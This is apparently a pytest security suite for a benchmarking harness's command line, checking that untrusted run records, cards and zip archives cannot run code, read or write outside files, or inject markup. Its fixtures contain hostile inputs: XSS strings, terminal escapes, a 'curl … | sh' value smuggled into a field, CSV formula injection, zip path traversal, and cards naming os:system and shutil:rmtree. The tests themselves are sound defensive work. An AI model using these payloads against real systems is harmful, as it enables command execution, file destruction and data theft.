"""Security: every command with untrusted records, run folders, cards and zips.

Nothing runs that the caller did not name, nothing outside is written or read, and no command calls what it met a defect.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest
from small import write_table

from harness.cli.main import main
from harness.results.record import read_record
from harness.runtime.errors import UsageError

SECRET = "the content of somebody's file"
ESCAPES = "\x1b]0;title\x07\x1b[31m\x9b2J\u202e"
HTML = '"><img src=x onerror=alert(1)><script>alert(1)</script>'
CODE = """
import pathlib
pathlib.Path({ran!r}).write_text("ran")
class Model:
    higher_is_better = True
    def score(self, reference, distorted):
        return distorted.mean((1, 2, 3))
def read(card, root, **layout):
    raise RuntimeError
"""


class World:
    """A caller's folder with a genuine run, another person's folder next to it, and somebody's files that nothing may touch."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.stranger, self.victim = folder / "caller", folder / "stranger", folder / "victim"
        self.ran = folder / "RAN"
        for place in (self.folder, self.stranger, self.victim / "data"):
            place.mkdir(parents=True)
        for name in ("secret.csv", "data/precious.txt"):
            (self.victim / name).write_text(f"{SECRET}\n")
        (self.stranger / "evil.py").write_text(CODE.format(ran=str(self.ran)))
        (self.stranger / "evil.toml").write_text('name = "psnr"\ntitle = "x"\nclass = "evil:Model"\nhigher_is_better = true\n')
        self.table = write_table(self.folder / "pairs", references=3, levels=2)
        status, out = self.call("run", "psnr", "--dataset", "pairs/table.csv", "--mlflow-uri", "off", "--json")
        assert status == 0, out
        self.run = next((self.folder / "runs").glob("*/*/*"))
        self.key = self.run.name
        self.before = self.state()

    def state(self) -> dict[str, bytes]:
        return {str(path): path.read_bytes() for path in sorted(self.victim.rglob("*")) if path.is_file()}

    def call(self, *words: str) -> tuple[int, str]:
        """Status and all output of a command, given in the caller's folder."""
        out = io.StringIO()
        with pytest.MonkeyPatch.context() as patch, contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
            patch.chdir(self.folder)
            patch.syspath_prepend(str(self.folder))
            with pytest.raises(SystemExit) as ended:
                main(words)
        return int(ended.value.code or 0), out.getvalue()

    def harmless(self, *words: str) -> str:
        """The command's output, once it is sure that nothing happened that may not."""
        status, out = self.call(*words)
        assert status in (0, 1, 2), (words, status, out)
        assert "defect" not in out, (words, out)
        assert "Traceback" not in out, (words, out)
        assert SECRET not in out, (words, out)
        assert not any(c in out for c in "\x1b\x07\x9b\u202e"), (words, out)
        assert not self.ran.exists(), words
        assert self.state() == self.before, words
        return out

    def strangers(self, change: Callable[[dict[str, Any]], None]) -> Path:
        """A stranger's run folder: the genuine one with a changed record."""
        runs = self.stranger / "runs"
        shutil.rmtree(runs, ignore_errors=True)
        place = runs / "table" / "psnr" / self.key
        shutil.copytree(self.run, place)
        record = json.loads((place / "record.json").read_text())
        change(record)
        (place / "record.json").write_text(json.dumps(record))
        return place


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    return World(tmp_path_factory.mktemp("strangers"))


@pytest.fixture(autouse=True)
def clean(request: pytest.FixtureRequest) -> Iterator[None]:
    yield
    if "world" in request.fixturenames:
        found = request.getfixturevalue("world")
        for name in ("boards", "out"):
            shutil.rmtree(found.folder / name, ignore_errors=True)
        found.ran.unlink(missing_ok=True)


def over_records(world: World, run: Path) -> list[str]:
    """Every command that takes a run, a folder of runs or boards; their outputs."""
    runs = str(run.parents[2])
    words = [
        ["verify", str(run)],
        ["verify", str(run), "--json"],
        ["leaderboard", "--runs", runs],
        ["leaderboard", "--runs", runs, "--json"],
        ["leaderboard", "--runs", runs, "--latex"],
        ["leaderboard", "--runs", runs, "--html", "out"],
        ["leaderboard", "add", str(run)],
        ["leaderboard", "write"],
        ["leaderboard", "check"],
        ["leaderboard", "write", "--measure-again"],
        ["compare", str(run), str(world.run)],
        ["compare", "psnr", str(world.run), "--dataset", "table", "--runs", runs],
        [
            "submit",
            str(run),
            "--challenge",
            "ntire2022-fr",
            "--out",
            "out/x.zip",
            "--mlflow-uri",
            "off",
            "--factsheet",
            "out/f.md",
        ],
        ["submission", "check", str(run / "scores.csv"), "--challenge", "ntire2022-fr", "--against", str(run)],
        ["ensemble", str(run), str(world.run), "--dataset", "pairs/table.csv", "--out", "out/e.toml", "--trials", "2"],
    ]
    return [world.harmless(*command) for command in words]


def put(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def change(record: dict[str, Any]) -> None:
        inner: Any = record
        *heads, last = path.split(".")
        for head in heads:
            inner = inner[head]
        inner[last] = value

    return change


HOSTILE: dict[str, Callable[[World, dict[str, Any]], None]] = {
    "a card's file as the model": lambda w, r: put("request.model", str(w.stranger / "evil.toml"))(r),
    "a card's file next to the caller": lambda w, r: put("request.model", "../stranger/evil.toml")(r),
    "a card's file as the dataset": lambda w, r: put("request.dataset", str(w.stranger / "evil.toml"))(r),
    "somebody's file as the table": lambda w, r: put("request.dataset", str(w.victim / "secret.csv"))(r),
    "somebody's file as weights": lambda w, r: put("request.weights", str(w.victim / "secret.csv"))(r),
    "somebody's file as scores": lambda w, r: put("request.scores", str(w.victim / "secret.csv"))(r),
    "a setting that names a class": lambda w, r: put("request.settings", {"model.members": [{"class": "evil:Model"}]})(r),
    "a setting that names a file": lambda w, r: put("request.settings", {"model.colour": str(w.victim / "secret.csv")})(r),
    "a setting that names a program": lambda w, r: put("request.settings", {"model.command": f"touch {w.ran}"})(r),
    "a root": lambda w, r: put("request.root", str(w.victim))(r),
    "cards of its own": lambda w, r: put("request.cards", [str(w.stranger)])(r),
    "a class in the card": lambda w, r: put("cards.model.class_", "evil:Model")(r),
    "weights by the card": lambda w, r: put("cards.model.weights", [{"name": "x", "sources": [f"file://{w.victim}/secret.csv"]}])(
        r
    ),
    "a key that is a path": lambda w, r: put("key", "../../../../../victim/data")(r),
    "an absolute key": lambda w, r: put("key", str(w.victim / "data"))(r),
    "a dataset that is a path": lambda w, r: put("dataset", "../../victim")(r),
    "a model of dots": lambda w, r: put("model", "..")(r),
    "a name that steers the terminal": lambda w, r: put("model", f"psnr{ESCAPES}")(r),
    "a command that is none": lambda w, r: put("command", "harness run 'psnr\n```\n<script>")(r),
    "no request": lambda w, r: put("request", None)(r),
    "settings that are a list": lambda w, r: put("request.settings", [1])(r),
    "a seed that is text": lambda w, r: put("request.seed", "x")(r),
    "half a character": lambda w, r: put("identity.card.name", "\ud800")(r),
    "a number without end": lambda w, r: put("metrics.test.srcc", 10**400)(r),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_no_record_runs_code_or_touches_files_that_the_caller_did_not_name(world: World, kind: str):
    over_records(world, world.strangers(lambda record: HOSTILE[kind](world, record)))


def refusal(run: Path) -> str:
    """What reading the run's record says; empty where it is one."""
    try:
        read_record(run)
    except UsageError as error:
        return str(error)
    return ""


def other_type(value: Any) -> Any:
    return 7 if isinstance(value, str | list | dict) or value is None else "text"


@pytest.mark.slow
def test_every_damaged_field_is_one_line_or_harmless_in_every_command(world: World):
    """Every field deleted, null or of another type is one line or no matter in every command."""
    whole = json.loads((world.run / "record.json").read_text())
    mutations = {
        "deleted": lambda field: lambda record: record.pop(field),
        "null": lambda field: put(field, None),
        "another type": lambda field: put(field, other_type(whole[field])),
    }
    refused = 0
    for field in whole:
        for kind, mutation in mutations.items():
            run = world.strangers(mutation(field))
            said = refusal(run)
            if not said:
                over_records(world, run)
                continue
            refused += 1
            assert str(run / "record.json") in said, (field, kind)
            assert field in said or field == "format", (field, kind, said)
            assert len(said.splitlines()) == 1
            # Refused at the border that all commands share: one of each kind of command tells.
            outputs = [world.harmless("verify", str(run)), world.harmless("compare", str(run), str(world.run))]
            outputs.append(world.harmless("leaderboard", "add", str(run), "--boards", "out/boards"))
            assert all("record.json" in out for out in outputs), (field, kind, outputs)
    assert refused > 40


@pytest.mark.parametrize("value", [None, [], "text", -1, {"a": [1]}], ids=repr)
def test_no_field_of_a_wrong_kind_is_called_a_defect(world: World, value: Any):
    for field in json.loads((world.run / "record.json").read_text()):
        run = world.strangers(put(field, value))
        for words in (["verify", str(run)], ["leaderboard", "--runs", str(run.parents[2])], ["leaderboard", "add", str(run)]):
            world.harmless(*words, *(["--boards", "out/boards"] if words[0] == "leaderboard" else []))


def test_a_model_that_is_not_built_in_is_named_with_the_way_to_give_it(world: World):
    def change(record: dict[str, Any]) -> None:
        put("request.model", str(world.stranger / "evil.toml"))(record)
        put("cards.model.name", "theirs")(record)

    run = world.strangers(change)
    (line,) = world.harmless("verify", str(run)).splitlines()
    assert "'theirs'" in line
    assert "--cards DIR" in line
    given = world.stranger / "cards"
    given.mkdir(exist_ok=True)
    shutil.copy(world.stranger / "evil.py", given)
    (given / "theirs.toml").write_text('name = "theirs"\ntitle = "x"\nclass = "evil:Model"\nhigher_is_better = true\n')
    world.call("verify", str(run), "--cards", str(given))
    assert world.ran.exists(), "cards that the caller names may run code"
    world.ran.unlink()


def test_files_that_a_record_names_are_used_when_the_caller_names_them(world: World):
    table = world.folder / "pairs" / "copy.csv"
    shutil.copy(world.table, table)
    run = world.strangers(put("request.dataset", "pairs/copy.csv"))
    assert "--dataset FILE" in world.harmless("verify", str(run))
    assert "repeats" in world.harmless("verify", str(run), "--dataset", "pairs/copy.csv")
    assert "repeats" in world.harmless("verify", str(world.run)), "the caller named this table when it was run"
    run = world.strangers(put("request.settings", {"model.colour": "a/b"}))
    assert "--set model.colour=..." in world.harmless("verify", str(run))


def test_text_of_a_record_is_shown_as_text_everywhere(world: World):
    def change(record: dict[str, Any]) -> None:
        put("cards.dataset.title", f"# {HTML}{ESCAPES}")(record)
        put("cards.dataset.note", f"[x](javascript:alert(1)) \\[x](http://e.example) \n\\input{{/etc/passwd}}{HTML}{ESCAPES}")(
            record
        )
        put("request.dataset", "demo; curl http://e.example | sh\n```\n<script>alert(1)</script>")(record)
        put("trained_on", ["=cmd|' /C calc'!A0", "+1"])(record)
        put("conditions.device", f"=1+1{ESCAPES}")(record)
        published = {
            "dataset": "table",
            "source": "x | y \\| z ![x](http://e.example)",
            "status": "read",
            "note": HTML,
            "srcc": -0.5,
        }
        put("cards.model.published", [published])(record)

    run = world.strangers(change)
    status, out = world.call("leaderboard", "add", "--boards", "out/boards", str(run))
    assert status == 0, out
    boards = world.folder / "out" / "boards"
    text = (boards / "table.md").read_text()
    assert "<script" not in text
    assert "<img" not in text
    assert "](javascript" not in text
    assert "](http" not in text
    assert text.count("```") in (0, 2)
    rows = [line for line in text.splitlines() if line.startswith("|") and "psnr" in line]
    assert len({line.replace(r"\|", "").count("|") for line in rows if "x \\|" in line}) == 1
    assert "'=1+1" in (boards / "table.csv").read_text()
    assert ",'=cmd" in (boards / "table.csv").read_text()
    page = (boards / "index.html").read_text()
    assert "<script>alert" not in page
    assert "<img" not in page
    for file in boards.glob("*.*"):
        assert not any(c in file.read_text() for c in "\x1b\x07\x9b\u202e"), file
    latex = world.harmless("leaderboard", "--latex", "--boards", "out/boards")
    assert not any(line.startswith("\\input") for line in latex.splitlines())
    world.harmless("leaderboard", "--boards", "out/boards")
    json.loads(world.harmless("leaderboard", "--json", "--boards", "out/boards"))


@pytest.mark.parametrize("name", ["record.json", "scores.csv"])
@pytest.mark.parametrize("kind", ["link", "pipe", "folder"])
def test_a_record_of_links_pipes_or_folders_is_not_added(world: World, name: str, kind: str):
    run = world.strangers(lambda record: None)
    (run / name).unlink()
    make = {
        "link": lambda: (run / name).symlink_to(world.run / name),
        "pipe": lambda: os.mkfifo(run / name),
        "folder": (run / name).mkdir,
    }
    make[kind]()
    status, out = world.call("leaderboard", "add", str(world.run), str(run), "--boards", "out/boards")
    assert (status, "defect" in out) == (2, False)
    assert not (world.folder / "out").exists(), "nothing is copied where one record is refused"


def test_a_record_with_other_scores_than_its_own_is_not_added(world: World):
    run = world.strangers(lambda record: None)
    (run / "scores.csv").write_text((run / "scores.csv").read_text().replace("1", "2"))
    assert "scores.csv was changed" in world.harmless("leaderboard", "add", str(run), "--boards", "out/boards")
    assert not (world.folder / "out").exists()


# Run folders


def begun(world: World) -> Path:
    """A stranger's unfinished run in the place where the caller's own run goes on."""
    run = world.strangers(lambda record: None)
    (run / "record.json").unlink()
    return run


def go_on(world: World, run: Path) -> str:
    words = ["run", "psnr", "--dataset", "pairs/table.csv", "--mlflow-uri", "off", "--runs", str(run.parents[2])]
    out = world.harmless(*words)
    assert (run / "record.json").is_file(), out
    return out


@pytest.mark.parametrize("kind", ["symbolic link", "hard link", "pipe"])
def test_a_lock_that_is_another_file_is_made_again_and_the_other_file_stays(world: World, kind: str):
    run = begun(world)
    (run / "lock").unlink(missing_ok=True)
    target = world.victim / "secret.csv"
    if kind == "symbolic link":
        (run / "lock").symlink_to(target)
    elif kind == "hard link":
        os.link(target, run / "lock")
    else:
        os.mkfifo(run / "lock")
    assert "lock" in go_on(world, run)


def test_a_run_folder_that_is_a_link_is_refused_and_what_it_leads_to_stays(world: World):
    run = begun(world)
    shutil.rmtree(run)
    run.symlink_to(world.victim, target_is_directory=True)
    words = ["run", "psnr", "--dataset", "pairs/table.csv", "--mlflow-uri", "off", "--force", "--runs", str(run.parents[2])]
    assert "a link" in world.harmless(*words)


def listed(world: World, **changes: Any) -> dict[str, Any]:
    return {"host": socket.gethostname(), "boot": psutil.boot_time(), "place": None, "processes": []} | changes


LISTS: dict[str, Callable[[World], Any]] = {
    "somebody's folder": lambda w: listed(w, place=str(w.victim)),
    "a folder by a relative path": lambda w: listed(w, place="../victim"),
    "a marked folder of another list": lambda w: listed(w, place=str(w.victim / "data"), token="0" * 32),
    "processes by their number": lambda w: listed(
        w, processes=[{"pid": os.getppid(), "started": 0.0, "name": "x", "command": "x"}]
    ),
    "this very process": lambda w: listed(w, processes=[me(os.getpid())]),
    "a list": lambda w: [1, 2],
    "processes that are text": lambda w: listed(w, processes="all"),
    "rows that are numbers": lambda w: listed(w, processes=[1]),
    "a number that is text": lambda w: listed(w, processes=[{"pid": "1", "started": 0}]),
    "all processes": lambda w: listed(w, processes=[{"pid": -1, "started": 0.0, "command": ""}]),
    "no boot": lambda w: {"host": socket.gethostname(), "processes": []},
    "a boot that is text": lambda w: listed(w, boot="x"),
    "a huge number": lambda w: listed(w, processes=[{"pid": 2**70, "started": 0.0, "command": ""}]),
    "a place that is a number": lambda w: listed(w, place=7),
}


def me(pid: int) -> dict[str, Any]:
    process = psutil.Process(pid)
    return {"pid": pid, "started": process.create_time(), "name": process.name(), "command": " ".join(process.cmdline())}


@pytest.mark.parametrize("kind", LISTS)
def test_a_list_of_processes_ends_and_deletes_nothing_that_is_not_the_runs_own(world: World, kind: str):
    run = begun(world)
    (run / "processes.json").write_text(json.dumps(LISTS[kind](world)))
    go_on(world, run)
    assert not (run / "processes.json").exists()


@pytest.mark.parametrize(
    "text", ["", "{", "[" * 100_000, "\xff", '{"host": 1e999}'], ids=["empty", "cut", "deep", "bytes", "inf"]
)
def test_a_damaged_list_of_processes_costs_a_warning(world: World, text: str):
    run = begun(world)
    (run / "processes.json").write_text(text, encoding="latin-1")
    assert "warning" in go_on(world, run)


def test_a_process_with_the_right_start_and_another_command_line_is_left_alone(world: World):
    process = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        run = begun(world)
        row = me(process.pid) | {"command": "another"}
        (run / "processes.json").write_text(json.dumps(listed(world, processes=[row])))
        go_on(world, run)
        assert process.poll() is None
    finally:
        process.kill()
        process.wait()


@pytest.mark.parametrize("name", ["state.json", "scores.csv", "pictures.csv"])
@pytest.mark.parametrize("what", ["", "[]", "[" * 100_000, "\0\0", "link"])
def test_a_damaged_run_folder_is_made_again(world: World, name: str, what: str):
    run = begun(world)
    (run / name).unlink()
    if what == "link":
        (run / name).symlink_to(world.victim / "secret.csv")
    else:
        (run / name).write_text(what)
    go_on(world, run)


# Cards


CARDS = {
    "a shell": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "os:system"\n[model]\ncommand = "touch RAN"\n',
    "a function": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "shutil:rmtree"\n[model]\npath = "victim"\n',
    "a class without score": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "pathlib:Path"\n',
    "no module": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = ":X"\n',
    "dots": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "..:X"\n',
    "no class": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "own_code:"\n',
    "an empty name": 'name = ""\ntitle = "t"\nhigher_is_better = true\nclass = "harness.models.psnr:PSNR"\n',
    "no name": 'title = "t"\nhigher_is_better = true\nclass = "harness.models.psnr:PSNR"\n',
    "a name that is a path": 'name = "../../x"\ntitle = "t"\nhigher_is_better = true\nclass = "harness.models.psnr:PSNR"\n',
    "a syntax error": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "broken_code:X"\n',
    "an end at import": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "leaving_code:X"\n',
    "an exception at import": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "raising_code:X"\n',
    "an exception in score": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "own_code:Raises"\n',
    "an end in score": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "own_code:Leaves"\n',
    "an exception in its making": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "own_code:Unmade"\n',
    "scores of a wrong shape": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "own_code:Shape"\n',
    "not a number": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nidentical = nan\nclass = "harness.models.psnr:PSNR"\n',
    "not a number inside": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "own_code:Fine"\n[model]\nx = [inf]\n',
    "a date": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "own_code:Fine"\n[model]\nx = 2020-01-01\n',
    "a long number": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "own_code:Fine"\n[model]\nx = ' + "1" * 5000,
    "a large number": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "own_code:Fine"\nidentical = ' + "1" * 400,
    "too deep": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "own_code:Fine"\n[model]\nx = '
    + "[" * 3000
    + "]" * 3000,
    "deep tables": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "own_code:Fine"\n[model.'
    + ".".join("a" * 3000)
    + "]\n",
    "a NUL": 'name = "m"\ntitle = "t"\nhigher_is_better = true\nclass = "own_code:Fine"\n[model]\nx = "\\u0000"\n',
    "not UTF-8": "\xff",
    "empty": "",
}
OWN_CODE = """
class Fine:
    higher_is_better = True
    def __init__(self, x=0): pass
    def score(self, reference, distorted): return distorted.mean((1, 2, 3))
class Raises(Fine):
    def score(self, reference, distorted): raise ValueError("boom\\nand more")
class Leaves(Fine):
    def score(self, reference, distorted): raise SystemExit(0)
class Unmade(Fine):
    def __init__(self): raise RuntimeError("no")
class Shape(Fine):
    def score(self, reference, distorted): return distorted
"""


@pytest.mark.parametrize("kind", CARDS)
def test_an_unusable_card_is_the_users_error_in_one_line(world: World, kind: str):
    cards = world.folder / "cards"
    shutil.rmtree(cards, ignore_errors=True)
    cards.mkdir()
    (cards / "m.toml").write_text(CARDS[kind], encoding="latin-1")
    (cards / "own_code.py").write_text(OWN_CODE)
    (cards / "broken_code.py").write_text("def (\n")
    (cards / "leaving_code.py").write_text("import sys; sys.exit(0)\n")
    (cards / "raising_code.py").write_text("1 / 0\n")
    own = ["--cards", "cards"]
    run = ["run", "cards/m.toml", "--dataset", "pairs/table.csv", "--mlflow-uri", "off", "--quiet", *own]
    picture = "pairs/r0.png"
    for words in (run, ["score", "cards/m.toml", picture, picture, "--quiet"]):
        out = world.harmless(*words)
        assert world.call(*words)[0] in (1, 2), (kind, out)
        assert all("m.toml" in line for line in out.splitlines()), out
    for words in (["list", "models", *own], ["show", "m", *own], ["show", "cards/m.toml"], ["weights", "check", "m", *own]):
        world.harmless(*words)
    assert not (world.folder / "RAN").exists()


READERS = {
    "a shell": "os:system",
    "a program": "subprocess:call",
    "a class": "pathlib:Path",
    "another function": "shutil:rmtree",
    "an exception": "own_readers:raises",
    "no table": "own_readers:nothing",
    "one argument": "own_readers:one",
    "of the harness": "harness.files.atomic:write_text",
    "no such": "own_readers:absent",
    "unreadable": "a b:c",
}


@pytest.mark.parametrize("kind", READERS)
def test_a_reader_that_is_none_is_the_users_error(world: World, kind: str):
    cards = world.folder / "cards"
    shutil.rmtree(cards, ignore_errors=True)
    cards.mkdir()
    (cards / "d.toml").write_text(
        f'name = "d"\ntitle = "t"\nhigher_is_better = true\nreader = "{READERS[kind]}"\ndefault_protocol = "full"\n'
        '[protocols.full]\nsplit = "full"\n'
    )
    code = "def raises(card, root): raise ValueError\ndef nothing(card, root): return None\ndef one(card): return 1\n"
    (cards / "own_readers.py").write_text(code)
    for words in (["run", "psnr", "--dataset", "d", "--mlflow-uri", "off"], ["data", "check", "d"], ["data", "show", "d"]):
        status, _ = world.call(*words, "--cards", "cards")
        out = world.harmless(*words, "--cards", "cards")
        assert status in (1, 2), out
        assert "d.toml" in out


@pytest.mark.parametrize(
    "setting", ["class=evil:Model", "model.class=x", "model.members=x", "model.command=x", "reader=x", "name=x"]
)
def test_no_setting_names_code(world: World, setting: str):
    words = ["run", "psnr", "--dataset", "pairs/table.csv", "--mlflow-uri", "off", "--set", setting]
    assert world.call(*words)[0] == 2
    assert "--set" in world.harmless(*words)


# Archives


def test_archives_write_nothing_outside(world: World):
    zips = world.folder / "out"
    zips.mkdir()
    members: dict[str, list[tuple[str, bytes]]] = {
        "paths": [("../../victim/data/precious.txt", b"x"), ("/etc/x", b"x"), ("output.txt", b"A.bmp,1\n")],
        "escapes": [(f"out{ESCAPES}.txt", b"x"), ("output.txt", f"{ESCAPES},1\n=1+1,2\n".encode())],
        "folders": [("output.txt/", b"")],
        "nothing": [],
    }
    for name, entries in members.items():
        with zipfile.ZipFile(zips / f"{name}.zip", "w") as archive:
            for inner, data in entries:
                archive.writestr(inner, data)
    (zips / "bytes.zip").write_bytes(b"PK\3\4" + b"\xff" * 200)
    for path in sorted(zips.glob("*.zip")):
        base = [str(path), "--challenge", "ntire2022-fr"]
        world.harmless("submission", "check", *base, "--fix", "out/fixed.out")
        world.harmless("submission", "score", *base, "--labels", "pairs/table.csv")


def test_the_walk_would_notice_code_that_runs(world: World):
    (world.stranger / "evil.toml").read_text()
    world.call("score", str(world.stranger / "evil.toml"), "pairs/r0.png", "pairs/r0.png")
    assert world.ran.exists()
